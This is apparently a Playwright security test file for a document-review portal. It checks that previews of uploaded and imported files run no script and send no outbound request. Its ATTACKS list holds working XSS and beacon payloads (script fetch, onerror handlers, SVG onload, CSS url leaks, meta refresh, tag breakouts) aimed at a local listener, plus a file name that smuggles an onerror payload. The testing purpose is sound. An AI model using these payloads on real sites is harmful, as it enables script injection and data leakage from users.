"""Files made to attack their reviewer, in a real browser, beside a server that would hear of any success.

The checks are replaced by one that lets everything through unchanged: what is tried here is the last wall, alone.
"""

import asyncio
import json
import shutil
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path

from playwright.async_api import Browser, Page

from audit.testing import MemoryLedger
from hub_extensions.exports import drafting, reviewing, submitting
from hub_extensions.exports.checking import CheckOrder
from hub_extensions.exports.checks import FileVerdict, Verdict
from hub_extensions.exports.details import detail
from hub_extensions.exports.drafting import Declaration
from hub_extensions.exports.requests import OutputKind
from hub_extensions.imports import composing
from hub_extensions.imports.acting import By
from hub_extensions.imports.advancing import advance
from hub_extensions.imports.composing import Declaration as ImportDeclaration
from hub_extensions.imports.composing import Target
from hub_extensions.imports.records import Content
from hub_extensions.imports.testing import SettableInspector
from hub_extensions.portal.testing import ADA, ANA, NOW, PROJECT, SOL, World, open_world
from tests.portal.conftest import in_the_room

#: ``{url}`` leads to the listener. Each acts in a page that believes it: script, handlers, pictures, refresh, style.
ATTACKS = (
    "<script>fetch('{url}script');top.hacked=1</script>",
    "<script src={url}src.js></script>",
    "<img src=x onerror=\"fetch('{url}handler');top.hacked=1\">",
    "<body onload=\"fetch('{url}onload')\">",
    "<img src={url}beacon.png>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('{url}svg')\"><image href='{url}image.png'/></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>parent.hacked=1</script>"></iframe></foreignObject></svg>',
    "<meta http-equiv=refresh content='0;url={url}refresh'>",
    "<style>@import url({url}import.css); body {{ background: url({url}background.png) }}</style>",
    "<style>td[class] {{ background: url({url}leak?td) }} @font-face {{ font-family: x; src: url({url}font) }}</style>",
    "<link rel=stylesheet href={url}sheet.css><link rel=prefetch href={url}prefetch>",
    "<iframe src={url}frame></iframe><object data={url}object></object><embed src={url}embed>",
    "<form action={url}form><input autofocus onfocus=this.form.submit()></form>",
    "<base href={url}><a ping={url}ping href=x>x</a>",
    "<video poster={url}poster src={url}video></video><audio src={url}audio autoplay></audio>",
    "</textarea></title></pre></td><script>fetch('{url}breakout')</script>",
    "javascript:fetch('{url}address')",
    "{{{{ 7*7 }}}}{{% import os %}}",
)


@dataclass
class Listener:
    """A server outside that notes whoever connects."""

    url: str = ""
    heard: list[str] = field(default_factory=list)

    async def note(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Keep the first line of what comes and answer nothing useful."""
        line = await reader.readline()
        self.heard.append(line.decode("latin-1").strip())
        writer.write(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
        writer.close()

    @property
    def attacks(self) -> list[str]:
        """The attacks, aimed here."""
        return [attack.format(url=self.url) for attack in ATTACKS]


@asynccontextmanager
async def listening() -> AsyncIterator[Listener]:
    """Open a listener on a free port."""
    listener = Listener()
    server = await asyncio.start_server(listener.note, "127.0.0.1", 0)
    listener.url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/"
    async with server:
        yield listener


def lets_everything_through(order: CheckOrder) -> Sequence[FileVerdict]:
    """Objects to nothing and rewrites nothing."""
    return [FileVerdict(file, Verdict.PASS, "text/plain", None, ()) for file in order.files]


@in_the_room
async def unguarded(populated: Path, tmp_path: Path, ledger: MemoryLedger) -> AsyncIterator[World]:
    """A portal without checks."""
    shutil.copyfile(populated, tmp_path / "bureau.sqlite")
    async with open_world(tmp_path, ledger, checker=lets_everything_through) as made:
        yield made


def hostile_files(attacks: list[str]) -> dict[str, bytes]:
    """One file of every kind that previews draw, full of attacks."""
    text = "\n".join(attacks)
    rows = "".join('"' + attack.replace('"', '""') + '",1\n' for attack in attacks)
    cells = [{"cell_type": kind, "source": [each]} for each in attacks for kind in ("code", "markdown", text[:60])]
    return {
        "evil.csv": ("label,n\n" + rows).encode(),
        "head.tsv": "\t".join(each.replace("\n", " ") for each in attacks).encode() + b"\n1\n",
        "evil.ipynb": json.dumps({"cells": cells}).encode(),
        **{f"evil{suffix}": text.encode() for suffix in (".html", ".svg", ".md", ".txt", ".json", ".py", ".tex")},
        "fake.png": text.encode(),
        "<img src=x onerror=top.hacked=1>.csv": b"a,b\n1,2\n",
    }


def submitted(world: World, attacks: list[str]) -> str:
    """A request whose every word and every byte attacks."""
    desk, at = world.portal.desk, {"actor": ANA, "now": NOW}
    words = "\n".join(attacks)
    request = drafting.create(desk, project=PROJECT, title=attacks[2][:200], purpose=words, **at)
    for name, data in hostile_files(attacks).items():
        world.write(name, data)
        drafting.add_file(desk, request, name, Declaration(OutputKind.OTHER, words, words, words), **at)
    submitting.submit(desk, request, **at)
    reviewing.answer(desk, request, words, **at)
    return request


async def test_the_attacks_do_work_on_a_page_that_believes_them(world: World, chromium: Browser) -> None:
    """The control: without it, silence would prove nothing."""
    async with listening() as listener:
        page = await chromium.new_page()
        for attack in listener.attacks:
            await page.goto(f"{world.hub.url}/become/nobody")
            await page.set_content(f"<table><tr><td class=x>1</td></tr></table>{attack}")
            await page.wait_for_timeout(150)
        heard = {line.split()[1].split("?")[0] for line in listener.heard if line}
    assert {"/script", "/handler", "/beacon.png", "/refresh", "/import.css", "/leak", "/frame", "/breakout"} <= heard


async def test_no_request_leaves_and_no_script_runs(unguarded: World, chromium: Browser) -> None:
    async with listening() as listener:
        request = submitted(unguarded, listener.attacks)
        page = await signed_in(unguarded, chromium)
        asked: list[str] = []
        page.context.on("request", lambda sent: asked.append(sent.url))
        await page.goto(f"{unguarded.address}review/{request}")
        frames = page.locator("iframe.preview")
        for number in range(await frames.count()):
            await frames.nth(number).scroll_into_view_if_needed()
            await page.frame_locator("iframe.preview").nth(number).locator("table, pre, p").first.wait_for()
        assert await page.evaluate("window.hacked") is None
        for file in detail(unguarded.portal.desk, request, ADA, now=NOW)["files"]:
            await page.goto(f"{unguarded.address}review/{request}/files/{file['id']}")
            assert await page.evaluate("[self.origin, window.hacked ?? null, document.scripts.length]") == [
                "null",
                None,
                0,
            ]
            drawn = (
                "svg, iframe, object, embed, form, link, base, video, audio, meta[http-equiv], img:not([src^='data:'])"
            )
            assert await page.locator(drawn).count() == 0
        await page.goto(f"{unguarded.address}exports/{request}")
        await page.wait_for_timeout(500)
    assert listener.heard == []
    assert [url for url in asked if not url.startswith((unguarded.url, unguarded.hub.url))] == []


async def test_what_comes_in_does_nothing_to_its_steward(unguarded: World, chromium: Browser) -> None:
    """The import desk without its checks: a steward opens every file of a hostile import."""
    desk, by = replace(unguarded.portal.imports, inspector=SettableInspector()), By(ANA, unguarded.clock())
    object.__setattr__(unguarded.portal, "imports", desk)
    async with listening() as listener:
        words = "\n".join(listener.attacks)
        request = composing.create(desk, Target(PROJECT), listener.attacks[2][:200], by)
        for name, data in hostile_files(listener.attacks).items():
            if "<" not in name:
                with composing.receiving(desk, request, name, by) as part:
                    part.write_bytes(data)
        composing.declare(desk, request, ImportDeclaration(Content.DATA, words, words, words[:500], True), by)
        composing.submit(desk, request, by)
        advance(desk, request, now=unguarded.clock())
        page = await signed_in(unguarded, chromium, SOL)
        await page.goto(f"{unguarded.address}import-review/{request}")
        frames = page.locator("iframe.preview")
        assert await frames.count() >= 9
        for number in range(await frames.count()):
            await frames.nth(number).scroll_into_view_if_needed()
            await page.frame_locator("iframe.preview").nth(number).locator("table, pre, p").first.wait_for()
        assert await page.evaluate("window.hacked") is None
        address = await frames.first.get_attribute("src")
        await page.goto(f"{unguarded.url}{address}")
        assert await page.evaluate("[self.origin, document.scripts.length]") == ["null", 0]
        await page.wait_for_timeout(500)
    assert listener.heard == []


async def signed_in(world: World, chromium: Browser, who: str = ADA) -> Page:
    """Somebody's page."""
    page = await (await chromium.new_context(locale="fr-FR")).new_page()
    page.set_default_timeout(15_000)
    await page.goto(f"{world.hub.url}/become/{who}")
    await page.goto(world.address)
    return page
